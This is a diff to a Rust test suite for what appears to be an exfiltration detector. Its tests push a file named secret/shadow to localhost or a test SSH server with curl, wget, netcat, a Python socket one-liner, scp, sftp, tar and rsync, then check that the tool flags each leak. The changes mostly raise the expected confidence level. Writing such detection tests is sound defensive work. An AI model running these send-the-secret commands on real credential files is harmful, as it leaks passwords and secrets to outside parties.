@@ -69,23 +69,18 @@ fn chain(alarm: &Alarm) -> Vec<String> {
 #[test]
 fn curl() {
     need!("curl");
-    for way in
-        ["-T secret/shadow", "--data-binary @secret/shadow", "-d @secret/shadow", "-F f=@secret/shadow"]
-    {
+    for way in ["-T secret/shadow", "--data-binary @secret/shadow", "-F f=@secret/shadow"] {
         let run = leaking(&format!("curl -sS {way} http://127.0.0.1:$P/up >/dev/null"));
-        let alarm = left(&run, "curl", "correlated");
-        assert_eq!(chain(&alarm), ["curl"]);
+        assert_eq!(chain(&left(&run, "curl", "proven")), ["curl"]);
     }
+    // Without its line ends, as curl sends it.
+    left(&leaking("curl -sS -d @secret/shadow http://127.0.0.1:$P/up >/dev/null"), "curl", "proven");
 }
 
 #[test]
 fn wget() {
     need!("wget");
-    left(
-        &leaking("wget -q -O /dev/null --post-file=secret/shadow http://127.0.0.1:$P/"),
-        "wget",
-        "correlated",
-    );
+    left(&leaking("wget -q -O /dev/null --post-file=secret/shadow http://127.0.0.1:$P/"), "wget", "proven");
 }
 
 #[test]
@@ -94,7 +89,8 @@ fn netcat() {
     left(&leaking("nc -N 127.0.0.1 $P <secret/shadow"), "nc", "proven");
     let run = leaking("cat secret/shadow | nc -N 127.0.0.1 $P");
     let alarm = left(&run, "nc", "proven");
-    assert_eq!(alarm.0["evidence"]["spans"][0]["length"], SHADOW.len());
+    let seen = alarm.0["evidence"]["spans"][0]["length"].as_u64().unwrap_or(0) as usize;
+    check!(run, (SHADOW.len() - 64..=SHADOW.len()).contains(&seen), "{seen} bytes of it");
 }
 
 #[test]
@@ -127,7 +123,7 @@ fn python() {
         // It forks between reading and sending.
         "import socket,os; d=open(\"secret/shadow\",\"rb\").read(); p=os.fork(); s=p or socket.create_connection((\"127.0.0.1\",$P)); p or s.sendall(b\"x\"+d); p and os.wait()",
     ] {
-        left(&leaking(&format!("{python} -c \"{}\"", code.replace('"', "\\\""))), "python3", "correlated");
+        left(&leaking(&format!("{python} -c \"{}\"", code.replace('"', "\\\""))), "python3", "proven");
     }
 }
 
@@ -161,9 +157,9 @@ fn through_files() {
 fn other_names_of_it() {
     need!("curl");
     let run = leaking("ln secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null");
-    left(&run, "curl", "correlated");
+    left(&run, "curl", "proven");
     let run = leaking("ln -s secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null");
-    left(&run, "curl", "correlated");
+    left(&run, "curl", "proven");
 }
 
 #[test]
@@ -189,12 +185,13 @@ fn over_ssh() {
         let script = Sshd::new(&scratch).around(commands);
         with_secret(scratch, &script).limit(120).go().well()
     };
-    left(&to("scp secret/shadow far:$here/got"), "ssh", "correlated");
-    left(&to("printf 'put secret/shadow got\\n' | sftp -q -b - far:$here >/dev/null"), "ssh", "correlated");
+    left(&to("scp secret/shadow far:$here/got"), "ssh", "proven");
+    left(&to("printf 'put secret/shadow got\\n' | sftp -q -b - far:$here >/dev/null"), "ssh", "proven");
     left(&to("ssh far 'cat >got' <secret/shadow"), "ssh", "proven");
-    left(&to("tar c secret | ssh far 'cat >got'"), "ssh", "correlated");
+    left(&to("tar c secret | ssh far 'cat >got'"), "ssh", "proven");
+    left(&to("tar cz secret | ssh far 'cat >got'"), "ssh", "correlated");
     if peers::find("rsync").is_some() {
-        left(&to("rsync -a secret/shadow far:$here/got"), "ssh", "correlated");
+        left(&to("rsync -a secret/shadow far:$here/got"), "ssh", "proven");
     }
 }
 
